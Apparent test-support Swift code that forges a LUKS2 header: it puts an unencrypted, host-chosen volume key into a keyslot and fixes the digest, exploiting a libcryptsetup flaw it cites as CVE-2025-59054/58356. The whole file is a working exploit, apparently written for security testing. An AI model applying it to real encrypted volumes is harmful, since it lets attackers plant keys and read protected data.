internal import Cryptography
internal import Foundation
public import TestSupport

/// A volume key that the host chose, put into a keyslot whose area is not encrypted: whatever passphrase is typed,
/// libcryptsetup before 2.8.1 takes this key out of it (CVE-2025-59054, CVE-2025-58356).
///
/// Source: LUKS On-Disk Format Specification 1.2.3, section 2.4 (anti-forensic splitter); LUKS2 specification 1.1,
/// "Keyslots Object" and "Digests Object".
public enum ChosenKey {
    private static let byteCount = 64
    private static let stripes = 4000

    /// Changes the header of `file` and the key material of `keyslot`, both checksums right.
    public static func put(intoKeyslot keyslot: Int, of file: VolumeFile) throws {
        let key = [UInt8](repeating: 0x41, count: byteCount)
        var header = try ForgedHeader(of: file)
        let area = "keyslots.\(keyslot).area"
        guard let offset = try header.member(area + ".offset") as? String, let start = Int(offset),
            let iterations = try header.member("digests.0.iterations") as? Int,
            let salt = try header.member("digests.0.salt") as? String
        else { throw CocoaError(.coderValueNotFound) }
        try header.set(area + ".encryption", #""cipher_null-ecb""#)
        let digest = try pbkdf2(key, salt: salt, iterations: iterations)
        try header.set("digests.0.digest", "\"" + Data(digest).base64EncodedString() + "\"")
        try header.write(to: file)
        try file.write(try split(key), at: start)
    }

    /// The key as the area of a keyslot holds it. All stripes but the last are zero here; they need not be random.
    private static func split(_ key: [UInt8]) throws -> [UInt8] {
        var mixed = [UInt8](repeating: 0, count: byteCount)
        for _ in 1..<stripes { mixed = try diffuse(mixed) }
        let zeros = [UInt8](repeating: 0, count: byteCount * (stripes - 1))
        return zeros + zip(mixed, key).map { $0 ^ $1 }
    }

    /// Each 32 bytes become SHA-256 over their number, four bytes big-endian, and themselves.
    private static func diffuse(_ bytes: [UInt8]) throws -> [UInt8] {
        var mixed: [UInt8] = []
        for start in stride(from: 0, to: bytes.count, by: 32) {
            let number = [0, 0, 0, UInt8(start / 32)]
            mixed += try DigestAlgorithm.sha256.hash(number + bytes[start..<start + 32])
        }
        return mixed
    }

    /// One block of PBKDF2-HMAC-SHA-256, by openssl(1).
    private static func pbkdf2(_ password: [UInt8], salt: String, iterations: Int) throws -> [UInt8] {
        guard let salt = Data(base64Encoded: salt) else { throw CocoaError(.coderReadCorrupt) }
        let hexadecimal = { (bytes: [UInt8]) in bytes.map { String(format: "%02x", $0) }.joined() }
        let result = try Command.run([
            "openssl", "kdf", "-binary", "-keylen", "32", "-kdfopt", "digest:SHA256",
            "-kdfopt", "hexpass:" + hexadecimal(password), "-kdfopt", "hexsalt:" + hexadecimal(Array(salt)),
            "-kdfopt", "iter:\(iterations)", "PBKDF2",
        ])
        guard result.status == 0, result.output.count == 32 else {
            throw CommandFailure(description: result.errorText)
        }
        return result.output
    }
}
